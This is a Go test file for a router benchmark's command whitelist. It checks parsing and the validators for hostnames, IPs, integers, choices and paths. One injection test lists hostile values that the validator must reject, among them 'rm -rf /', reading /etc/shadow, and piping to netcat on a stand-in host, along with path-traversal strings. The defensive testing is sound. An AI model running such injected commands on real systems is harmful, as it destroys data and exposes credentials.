package whitelist

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/jhuang59/router-benchmark/pkg/protocol"
)

const testCatalog = `
commands:
  ping:
    template: "ping -c {count} {target}"
    description: "Ping a host"
    category: diagnostics
    timeout_s: 30
    params:
      - name: target
        type: hostname
      - name: count
        type: integer
        min: 1
        max: 10
  ping-ip:
    template: "ping -c 4 {target}"
    description: "Ping an address"
    category: diagnostics
    params:
      - name: target
        type: ip
  service-status:
    template: "systemctl status {service}"
    description: "Service status"
    category: services
    params:
      - name: service
        type: choice
        choices: [sshd, nginx]
  read-log:
    template: "tail -n 50 logs/{file}"
    description: "Read a log file"
    category: files
    params:
      - name: file
        type: path
  uptime:
    template: "uptime"
    description: "System uptime"
    category: system
  greet:
    template: "echo hello {name}"
    description: "Greeting"
    category: misc
    params:
      - name: name
        type: string
        optional: true
`

func testRegistry(t *testing.T) *Registry {
	t.Helper()
	r, err := Parse([]byte(testCatalog))
	require.NoError(t, err)
	return r
}

func TestParseRejectsUnreferencedParam(t *testing.T) {
	_, err := Parse([]byte(`
commands:
  bad:
    template: "echo hi"
    params:
      - name: target
        type: ip
`))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not referenced")
}

func TestParseRejectsEmptyTemplate(t *testing.T) {
	_, err := Parse([]byte("commands:\n  bad:\n    template: \"\"\n"))
	require.Error(t, err)
}

func TestLookupUnknownCommand(t *testing.T) {
	r := testRegistry(t)
	_, err := r.Lookup("rm-rf")
	assert.Equal(t, protocol.CodeUnknownCommand, protocol.ErrCode(err))
}

func TestListSorted(t *testing.T) {
	r := testRegistry(t)
	defs := r.List()
	require.Len(t, defs, 6)
	for i := 1; i < len(defs); i++ {
		assert.Less(t, defs[i-1].ID, defs[i].ID)
	}
}

func TestValidateAndBuild(t *testing.T) {
	r := testRegistry(t)
	sanitized, err := r.Validate("ping", map[string]string{"target": "router.lan", "count": "4"})
	require.NoError(t, err)

	cmd, err := r.Build("ping", sanitized)
	require.NoError(t, err)
	assert.Equal(t, "ping -c 4 router.lan", cmd)
}

func TestValidateRejectsUndeclaredParam(t *testing.T) {
	r := testRegistry(t)
	_, err := r.Validate("uptime", map[string]string{"extra": "x"})
	assert.Equal(t, protocol.CodeInvalidParameter, protocol.ErrCode(err))
}

func TestValidateRejectsMissingRequired(t *testing.T) {
	r := testRegistry(t)
	_, err := r.Validate("ping", map[string]string{"count": "4"})
	assert.Equal(t, protocol.CodeInvalidParameter, protocol.ErrCode(err))
}

func TestValidateAllowsMissingOptional(t *testing.T) {
	r := testRegistry(t)
	sanitized, err := r.Validate("greet", nil)
	require.NoError(t, err)

	cmd, err := r.Build("greet", sanitized)
	require.NoError(t, err)
	assert.Equal(t, "echo hello ", cmd)
}

func TestValidateRejectsInjection(t *testing.T) {
	r := testRegistry(t)
	hostile := []string{
		"router.lan; rm -rf /",
		"router.lan && cat /etc/shadow",
		"`id`",
		"$(id)",
		"router.lan | nc evil 1234",
		"router.lan > /etc/passwd",
		"a\nreboot",
		"host\\name",
	}
	for _, value := range hostile {
		_, err := r.Validate("ping", map[string]string{"target": value, "count": "1"})
		assert.Equalf(t, protocol.CodeInvalidParameter, protocol.ErrCode(err), "value %q must be rejected", value)
	}
}

func TestValidateRejectsOverlongValue(t *testing.T) {
	r := testRegistry(t)
	long := strings.Repeat("a", 300)
	_, err := r.Validate("ping", map[string]string{"target": long, "count": "1"})
	assert.Equal(t, protocol.CodeInvalidParameter, protocol.ErrCode(err))
}

func TestIPValidator(t *testing.T) {
	r := testRegistry(t)

	for _, good := range []string{"10.0.0.1", "192.168.1.254", "fe80::1"} {
		_, err := r.Validate("ping-ip", map[string]string{"target": good})
		assert.NoErrorf(t, err, "value %q should pass", good)
	}
	for _, bad := range []string{"10.0.0.256", "not-an-ip", "10.0.0.1/24"} {
		_, err := r.Validate("ping-ip", map[string]string{"target": bad})
		assert.Errorf(t, err, "value %q should fail", bad)
	}
}

func TestIntegerValidatorBounds(t *testing.T) {
	r := testRegistry(t)

	_, err := r.Validate("ping", map[string]string{"target": "h", "count": "0"})
	assert.Error(t, err)
	_, err = r.Validate("ping", map[string]string{"target": "h", "count": "11"})
	assert.Error(t, err)
	_, err = r.Validate("ping", map[string]string{"target": "h", "count": "ten"})
	assert.Error(t, err)
	_, err = r.Validate("ping", map[string]string{"target": "h", "count": "10"})
	assert.NoError(t, err)
}

func TestChoiceValidator(t *testing.T) {
	r := testRegistry(t)

	_, err := r.Validate("service-status", map[string]string{"service": "nginx"})
	assert.NoError(t, err)
	_, err = r.Validate("service-status", map[string]string{"service": "httpd"})
	assert.Error(t, err)
}

func TestPathValidatorBlocksTraversal(t *testing.T) {
	r := testRegistry(t)

	for _, bad := range []string{"/etc/passwd", "~root/x", "../secret", "a/../../b", "c:stream"} {
		_, err := r.Validate("read-log", map[string]string{"file": bad})
		assert.Errorf(t, err, "path %q should fail", bad)
	}
	_, err := r.Validate("read-log", map[string]string{"file": "syslog/messages.1"})
	assert.NoError(t, err)
}

func TestHostnameValidator(t *testing.T) {
	r := testRegistry(t)

	for _, bad := range []string{"-leadingdash", "trailing-", "has space", "a..b!"} {
		_, err := r.Validate("ping", map[string]string{"target": bad, "count": "1"})
		assert.Errorf(t, err, "hostname %q should fail", bad)
	}
	_, err := r.Validate("ping", map[string]string{"target": "core-sw1.mgmt.example.com", "count": "1"})
	assert.NoError(t, err)
}

func TestDefaultCatalogLoads(t *testing.T) {
	r := Default()
	require.NotEmpty(t, r.List())

	// Every embedded entry must survive its own validation path.
	for _, def := range r.List() {
		assert.NotEmpty(t, def.Template)
		assert.Greater(t, def.TimeoutSeconds, 0)
	}
}
